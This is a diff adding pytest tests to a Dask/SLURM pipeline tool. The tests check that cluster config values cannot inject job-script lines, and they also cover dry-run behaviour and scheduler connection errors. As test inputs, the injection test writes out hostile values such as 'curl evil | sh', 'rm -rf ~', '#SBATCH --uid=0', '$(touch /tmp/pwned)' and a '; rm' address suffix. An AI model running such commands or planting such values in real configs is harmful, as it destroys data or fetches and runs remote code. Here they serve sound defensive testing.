@@ -117,3 +117,119 @@ def test_sweep_workers_must_be_zero_or_more(sweep_project: Path, capsys: pytest.
     _sweep(sweep_project, "name: w\nset: {campaign: mine.h5}\nmodels: [climatology]\ngrid: {seeds: [[0]]}\n")
     code, _, err = _cli(capsys, "sweep", "params/sweep.yaml", "--workers", "-1")
     assert code == 2 and "--workers" in _one_line(err) and "found -1" in err
+
+
+# --------------------------------------------------------------------------- items 4, 5: clusters, schedulers
+
+
+@pytest.fixture
+def project(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
+    import shutil
+
+    from tests.conftest import ROOT
+
+    shutil.copytree(ROOT / "params", tmp_path / "params")
+    monkeypatch.chdir(tmp_path)
+    return tmp_path
+
+
+SLURM = "kind: slurm\ncores: 4\nmemory: 8GB\nwalltime: '01:00:00'\n"
+
+
+@pytest.mark.parametrize(
+    ("line", "key"),
+    [
+        ('queue: "gpu\\n#SBATCH --uid=0"', "queue"),
+        ('account: "me\\nrm -rf ~"', "account"),
+        ('walltime: "01:00:00\\ncurl evil | sh"', "walltime"),
+        ('memory: "8GB\\n#SBATCH -p other"', "memory"),
+        ('job_extra_directives: ["--qos=normal\\ntouch /tmp/pwned"]', "job_extra_directives[0]"),
+        ('job_script_prologue: ["module load x\\ntouch /tmp/pwned"]', "job_script_prologue[0]"),
+        ('local_directory: "$(touch /tmp/pwned)"', "local_directory"),
+        ("local_directory: '`id`'", "local_directory"),
+        ("queue: 5", "queue"),
+        ("processes: 64", "processes"),
+    ],
+)
+def test_cluster_files_cannot_inject_job_script_lines(
+    project: Path, capsys: pytest.CaptureFixture[str], line: str, key: str
+) -> None:
+    pytest.importorskip("dask_jobqueue")
+    import yaml
+
+    (project / "params" / "c.yaml").write_text(yaml.safe_dump({**yaml.safe_load(SLURM), **yaml.safe_load(line)}))
+    code, out, err = _cli(capsys, "run", "--cluster", "params/c.yaml", "--dry-run")
+    assert code == 2 and f"parameter '{key}'" in _one_line(err) and "#SBATCH" not in out, err
+
+
+def test_a_local_directory_with_variables_is_quoted_in_the_job_script(
+    project: Path, capsys: pytest.CaptureFixture[str]
+) -> None:
+    pytest.importorskip("dask_jobqueue")
+    (project / "params" / "c.yaml").write_text(SLURM + "local_directory: $TMPDIR/dask\n")
+    code, out, err = _cli(capsys, "run", "--cluster", "params/c.yaml", "--dry-run")
+    assert code == 0 and '--local-directory "$TMPDIR/dask"' in out, err
+
+
+def test_dry_run_without_a_cluster_runs_nothing(project: Path, capsys: pytest.CaptureFixture[str]) -> None:
+    code, _, err = _cli(capsys, "run", "--dry-run", "--only", "explore")
+    assert code == 2 and "--dry-run: expected --cluster FILE" in _one_line(err)
+    assert not (project / "runs").exists() and not (project / "data").exists()
+
+
+def test_run_workers_below_one_are_refused(project: Path, capsys: pytest.CaptureFixture[str]) -> None:
+    pytest.importorskip("distributed")
+    code, _, err = _cli(capsys, "run", "--workers", "-1", "--only", "explore")
+    assert code == 2 and "--workers" in _one_line(err) and "found -1" in err
+    assert not (project / "runs").exists()
+
+
+def _free_port() -> int:
+    import socket
+
+    with socket.socket() as s:
+        s.bind(("127.0.0.1", 0))
+        return s.getsockname()[1]
+
+
+def test_a_closed_scheduler_port_is_one_line(project: Path, capsys: pytest.CaptureFixture[str]) -> None:
+    pytest.importorskip("distributed")
+    code, _, err = _cli(capsys, "run", "--scheduler", f"tcp://127.0.0.1:{_free_port()}", "--only", "explore")
+    assert code == 2 and "expected a Dask scheduler; found nothing listening" in _one_line(err)
+    code, _, err = _cli(capsys, "run", "--scheduler", "tcp://127.0.0.1:99999; rm", "--only", "explore")
+    assert code == 2 and "an address such as tcp://host:8786" in _one_line(err)
+
+
+@pytest.mark.parametrize("server", ["silent", "http"])
+def test_a_scheduler_that_never_answers_or_speaks_http_is_named_not_waited_for(server: str) -> None:
+    pytest.importorskip("distributed")
+    import socket
+    import threading
+    import time
+    from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
+
+    from cbhlib.errors import CbhError
+    from cbhlib.pipeline.distributed import connect_scheduler
+
+    if server == "http":
+        srv = ThreadingHTTPServer(("127.0.0.1", 0), BaseHTTPRequestHandler)
+        srv.RequestHandlerClass.log_message = lambda *a: None  # type: ignore[method-assign]
+        port = srv.server_address[1]
+        threading.Thread(target=srv.serve_forever, daemon=True).start()
+    else:
+        sock = socket.socket()
+        sock.bind(("127.0.0.1", 0))
+        sock.listen(8)
+        port = sock.getsockname()[1]
+        held: list[socket.socket] = []
+        threading.Thread(target=lambda: [held.append(sock.accept()[0]) for _ in range(8)], daemon=True).start()
+    t0 = time.perf_counter()
+    with pytest.raises(CbhError) as info:
+        connect_scheduler(f"tcp://127.0.0.1:{port}", timeout=1)
+    assert time.perf_counter() - t0 < 15
+    expected = "an HTTP server" if server == "http" else "a server that accepts connections but sent no Dask handshake"
+    assert "expected a Dask scheduler; found " + expected in str(info.value) or (
+        server == "http" and "did not answer as one" in str(info.value)
+    )
+    if server == "http":
+        srv.shutdown()
